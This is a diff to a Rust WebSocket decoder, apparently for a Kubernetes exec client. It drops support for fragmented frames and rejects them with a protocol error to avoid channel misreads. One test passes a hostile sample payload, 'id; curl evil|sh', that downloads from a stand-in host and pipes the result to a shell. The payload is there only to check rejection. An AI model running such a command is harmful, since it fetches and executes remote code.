@@ -22,8 +22,7 @@ pub const MAX_MESSAGE: usize = 16 << 20;
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Error {
     TooLarge,
-    /// A continuation with nothing to continue, a fragmented control
-    /// frame, or an unknown opcode.
+    /// A fragmented message or control frame, or an unknown opcode.
     Protocol(&'static str),
 }
 
@@ -47,8 +46,6 @@ pub struct Message {
 #[derive(Debug, Default)]
 pub struct Decoder {
     buf: Vec<u8>,
-    /// A fragmented message so far.
-    partial: Option<Vec<u8>>,
     closed: bool,
 }
 
@@ -74,28 +71,12 @@ impl Decoder {
                         return Err(Error::Protocol("a fragmented control frame"));
                     }
                 }
-                0x0 => {
-                    let Some(p) = self.partial.as_mut() else {
-                        return Err(Error::Protocol("a continuation of nothing"));
-                    };
-                    if p.len() + payload.len() > MAX_MESSAGE {
-                        return Err(Error::TooLarge);
-                    }
-                    p.extend_from_slice(&payload);
-                    if fin && let Some(whole) = self.partial.take() {
-                        out.extend(message(whole));
-                    }
-                }
-                0x1 | 0x2 => {
-                    if self.partial.is_some() {
-                        return Err(Error::Protocol("a new message inside a fragmented one"));
-                    }
-                    if fin {
-                        out.extend(message(payload));
-                    } else {
-                        self.partial = Some(payload);
-                    }
-                }
+                // Kubernetes' servers read each frame as one message, its
+                // first byte the channel; a client's fragments would be read
+                // one way here and another there. Kubectl never fragments:
+                // a stream that does ends.
+                0x1 | 0x2 if fin => out.extend(message(payload)),
+                0x0..=0x2 => return Err(Error::Protocol("a fragmented message")),
                 _ => return Err(Error::Protocol("an unknown opcode")),
             }
         }
@@ -202,8 +183,7 @@ mod tests {
         let mut stream = Vec::new();
         stream.extend(encode(true, 2, b"\x00ls -l\n", Some([1, 2, 3, 4])));
         stream.extend(encode(true, 9, b"", Some([9, 9, 9, 9])));
-        stream.extend(encode(false, 2, b"\x01hello ", None));
-        stream.extend(encode(true, 0, b"world", None));
+        stream.extend(encode(true, 2, b"\x01hello world", None));
         let big = [&[2u8][..], &[b'x'; 70_000]].concat();
         stream.extend(encode(true, 2, &big, None));
         stream.extend(encode(true, 8, b"", None));
@@ -221,11 +201,15 @@ mod tests {
 
     #[test]
     fn what_is_not_the_protocol_is_said() {
-        let mut d = Decoder::default();
-        assert_eq!(
-            d.push(&encode(true, 0, b"x", None)),
-            Err(Error::Protocol("a continuation of nothing"))
-        );
+        // A fragmented message, started or continued: the server would
+        // read each fragment as a message of its own.
+        for (fin, op) in [(false, 2), (true, 0), (false, 1)] {
+            let mut d = Decoder::default();
+            assert_eq!(
+                d.push(&encode(fin, op, b"\x00id; curl evil|sh\r", None)),
+                Err(Error::Protocol("a fragmented message"))
+            );
+        }
         let mut d = Decoder::default();
         let mut huge = vec![0x82, 127];
         huge.extend_from_slice(&(u64::MAX).to_be_bytes());
